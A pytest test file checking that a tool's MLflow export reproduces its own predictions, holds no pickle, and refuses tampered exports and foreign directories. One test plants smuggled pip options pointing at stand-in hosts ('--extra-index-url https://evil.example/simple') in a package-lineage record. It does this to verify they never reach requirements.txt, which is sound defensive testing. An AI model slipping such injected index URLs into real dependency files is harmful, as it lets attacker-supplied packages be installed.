"""``specops models export REF --format mlflow DIR``: MLflow loads it and predicts what
``specops predict`` writes, number for number, for a classifier and a regressor.

The export is loaded in a fresh Python process, as a team's MLflow job would load it,
and nothing in it may be a pickle.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from tests.conftest import SPECS

pytest.importorskip("mlflow.pyfunc", reason="the mlflow extra is not installed")

LOAD_AND_PREDICT = """
import sys
import mlflow.pyfunc
import pandas as pd

model = mlflow.pyfunc.load_model(sys.argv[1])
rows = pd.read_csv(sys.argv[2])
model.predict(rows).to_parquet(sys.argv[3])
"""


def specops(*args: str | Path, cwd: Path) -> tuple[int, str, str]:
    """``specops ARGS`` as a user runs it: a separate process, in ``cwd``."""
    done = subprocess.run(
        [sys.executable, "-m", "framework.cli.main", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=cwd,
        env={**os.environ, "NO_COLOR": "1", "COLUMNS": "200"},
    )
    return done.returncode, done.stdout, done.stderr


def export(ref: str, destination: Path, cwd: Path, *extra: str) -> tuple[int, str, str]:
    """``specops models export REF --format mlflow DIR`` when the CLI has the command;
    until then the same parser and handler, through specops' own error reporting."""
    args = ["models", "export", ref, "--format", "mlflow", str(destination), *extra]
    from framework.cli.main import build_parser

    try:
        with contextlib.redirect_stderr(io.StringIO()):
            build_parser().parse_args(args)
        wired = True
    except SystemExit:
        wired = False
    if wired:
        return specops(*args, cwd=cwd)
    code = f"""
import sys
from framework.cli import main, registry
from framework.cli.models_export import add_export

group = registry._group


def with_export(commands, name, help):  # what the registry parser will do
    actions = group(commands, name, help)
    if name == "models":
        add_export(actions)
    return actions


registry._group = with_export
sys.exit(main.main({args!r}))
"""
    done = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(SPECS.parent)},
    )
    return done.returncode, done.stdout, done.stderr


def mlflow_predictions(model: Path, rows: Path, out: Path) -> pd.DataFrame:
    done = subprocess.run(
        [sys.executable, "-c", LOAD_AND_PREDICT, str(model), str(rows), str(out)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    return pd.read_parquet(out)


def specops_predictions(ref: str, rows: Path, out: Path, cwd: Path) -> pd.DataFrame:
    """What ``specops predict`` writes on the native path: the one the export carries
    (a compiled runtime agrees within its tolerance, not to the last bit)."""
    argv = ("predict", ref, "--input", rows, "--output", out, "--runtime", "native")
    code, _, err = specops(*argv, cwd=cwd)
    assert code == 0, err
    return pd.read_parquet(out)


def train(directory: Path, spec_text: str) -> None:
    spec = directory / "spec.yaml"
    spec.write_text(spec_text)
    code, _, err = specops("run", spec, cwd=directory)
    assert code == 0, err


@pytest.fixture(scope="module")
def churn(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The churn example (binary, text labels, categorical and missing values), trained."""
    directory = tmp_path_factory.mktemp("churn")
    (directory / "data").mkdir()
    (directory / "data" / "churn.csv").write_bytes((SPECS / "data" / "churn.csv").read_bytes())
    text = (SPECS / "churn_csv.yaml").read_text().replace("n_estimators: 150", "n_estimators: 25")
    train(directory, text)
    rows = pd.read_csv(directory / "data" / "churn.csv").head(300)
    rows.loc[3, "contract"] = "weekly"  # a category never seen in training: scored as missing
    rows.loc[5, "total_charges"] = None
    rows.to_csv(directory / "rows.csv", index=False)
    return directory


@pytest.fixture(scope="module")
def churn_model(churn: Path) -> tuple[Path, str]:
    """``specops models export churn --format mlflow DIR`` once; its directory and output."""
    model = churn / "mlflow-model"
    code, out, err = export("churn", model, churn)
    assert code == 0, err
    return model, out


def test_a_classifier_predicts_exactly_what_specops_predict_writes(
    churn: Path, churn_model: tuple[Path, str]
) -> None:
    model, out = churn_model
    assert "churn/1" in out and "mlflow.pyfunc.load_model" in out
    expected = specops_predictions("churn", churn / "rows.csv", churn / "specops.parquet", churn)
    got = mlflow_predictions(model, churn / "rows.csv", churn / "mlflow.parquet")
    assert list(got.columns) == ["prediction", "proba_no", "proba_yes"]
    pd.testing.assert_frame_equal(got, expected, check_exact=True, check_dtype=False)
    assert set(got["prediction"]) == {"no", "yes"}


def test_the_export_records_its_signature_and_holds_no_pickle(
    churn_model: tuple[Path, str],
) -> None:
    model, _ = churn_model
    from mlflow.models import Model

    meta = Model.load(str(model))
    inputs = {c.name: c.type.name for c in meta.signature.inputs.inputs}
    assert inputs == {
        "tenure_months": "long",
        "monthly_charges": "double",
        "total_charges": "double",
        "contract": "string",
        "internet_service": "string",
        "payment_method": "string",
        "support_calls": "long",
    }
    outputs = {c.name: c.type.name for c in meta.signature.outputs.inputs}
    assert outputs == {"prediction": "string", "proba_no": "double", "proba_yes": "double"}
    assert meta.metadata["specops"]["ref"] == "churn/1"
    files = [p.relative_to(model).as_posix() for p in model.rglob("*") if p.is_file()]
    assert not [f for f in files if f.endswith((".pkl", ".pickle", ".cloudpickle"))], files
    assert "artifacts/package/release.json" in files
    requirements = (model / "requirements.txt").read_text().split()
    assert any(line.startswith("specops") for line in requirements)
    assert any(line.startswith("lightgbm==") for line in requirements)


def test_a_regressor_predicts_exactly_what_specops_predict_writes(
    tmp_path: Path,
) -> None:
    train(tmp_path, (SPECS / "diabetes_regression.yaml").read_text())
    from sklearn.datasets import load_diabetes

    frame = load_diabetes(as_frame=True).frame.drop(columns="target").head(100)
    frame.to_csv(tmp_path / "rows.csv", index=False)
    model = tmp_path / "model"
    code, _, err = export("diabetes-progression", model, tmp_path, "--json")
    assert code == 0, err
    expected = specops_predictions(
        "diabetes-progression", tmp_path / "rows.csv", tmp_path / "specops.parquet", tmp_path
    )
    got = mlflow_predictions(model, tmp_path / "rows.csv", tmp_path / "mlflow.parquet")
    assert list(got.columns) == ["prediction"]
    pd.testing.assert_frame_equal(got, expected, check_exact=True, check_dtype=False)


def test_a_tampered_export_is_refused_when_loaded(
    churn: Path, churn_model: tuple[Path, str], tmp_path: Path
) -> None:
    model = tmp_path / "model"
    shutil.copytree(churn_model[0], model)
    text = model / "artifacts" / "package" / "model" / "model.txt"
    text.write_text(text.read_text().replace("num_leaves", "num_leaves ", 1))
    done = subprocess.run(
        [sys.executable, "-c", LOAD_AND_PREDICT, model, churn / "rows.csv", tmp_path / "o.pq"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode != 0
    assert "model/model.txt" in done.stderr and not (tmp_path / "o.pq").exists()


def test_a_directory_specops_did_not_write_is_refused_and_kept(churn: Path) -> None:
    mine = churn / "my-folder"
    mine.mkdir()
    (mine / "notes.txt").write_text("mine")
    code, _, err = export("churn", mine, churn)
    assert code == 2, err
    assert "my-folder" in err and "Traceback" not in err
    assert [p.name for p in mine.iterdir()] == ["notes.txt"]


def test_an_earlier_export_is_replaced_whole(churn: Path, churn_model: tuple[Path, str]) -> None:
    model = churn / "again"
    shutil.copytree(churn_model[0], model)
    first = json.loads((model / "artifacts" / "package" / "release.json").read_text())
    (model / "specops_model.py").unlink()  # damaged: the new export replaces it all
    code, out, err = export("churn", model, churn, "--json")
    assert code == 0, err
    assert json.loads(out)["path"] == str(model)
    assert json.loads((model / "artifacts" / "package" / "release.json").read_text()) == first
    assert (model / "specops_model.py").is_file()


def test_an_unknown_model_is_exit_2(churn: Path, tmp_path: Path) -> None:
    code, _, err = export("nope", tmp_path / "x", churn)
    assert code == 2 and "no model named 'nope'" in err and "Traceback" not in err
    assert not (tmp_path / "x").exists()


def test_the_cli_parser_knows_the_format() -> None:
    from framework.cli.models_export import add_export

    parser = argparse.ArgumentParser()
    add_export(parser.add_subparsers())
    assert parser.parse_args(["export", "churn", "d", "--format", "onnx"]).format == "onnx"
    with pytest.raises(SystemExit):
        parser.parse_args(["export", "churn", "d", "--format", "pickle"])


def test_a_crafted_lineage_never_puts_a_pip_option_in_the_requirements(
    churn: Path, tmp_path: Path
) -> None:
    """The lineage's packages come from the store's row, which whoever writes the store
    chooses: an item that is not a package name and version (red-team H8: a "version"
    holding a newline and ``--extra-index-url``) is left out, and said."""
    import sqlite3

    project = tmp_path / "project"
    shutil.copytree(churn, project, ignore=shutil.ignore_patterns("live", "mlflow-model", "again"))
    store = project / ".specops" / "store.db"
    with sqlite3.connect(store) as db:
        (lineage,) = db.execute("SELECT lineage_json FROM model_versions").fetchone()
        packages = json.loads(lineage)["packages"]
        crafted = {
            **packages,
            "numpy": packages["numpy"] + "\n--extra-index-url https://evil.example/simple",
            "lightgbm; python_version>'0' --index-url https://evil2.example/simple": "1.0",
        }
        text = json.dumps({**json.loads(lineage), "packages": crafted})
        db.execute("UPDATE model_versions SET lineage_json = ?", (text,))
    db.close()

    model = tmp_path / "exported"
    code, _, err = export("churn", model, project)
    assert code == 0, err
    requirements = (model / "requirements.txt").read_text()
    conda = (model / "conda.yaml").read_text()
    for written in (requirements, conda):
        assert "evil" not in written and "index-url" not in written, written
    assert f"lightgbm=={packages['lightgbm']}" in requirements.split()  # the real pins stay
    assert not any(line.startswith("numpy") for line in requirements.split())
    assert "not a package name and version: left out of requirements.txt" in err
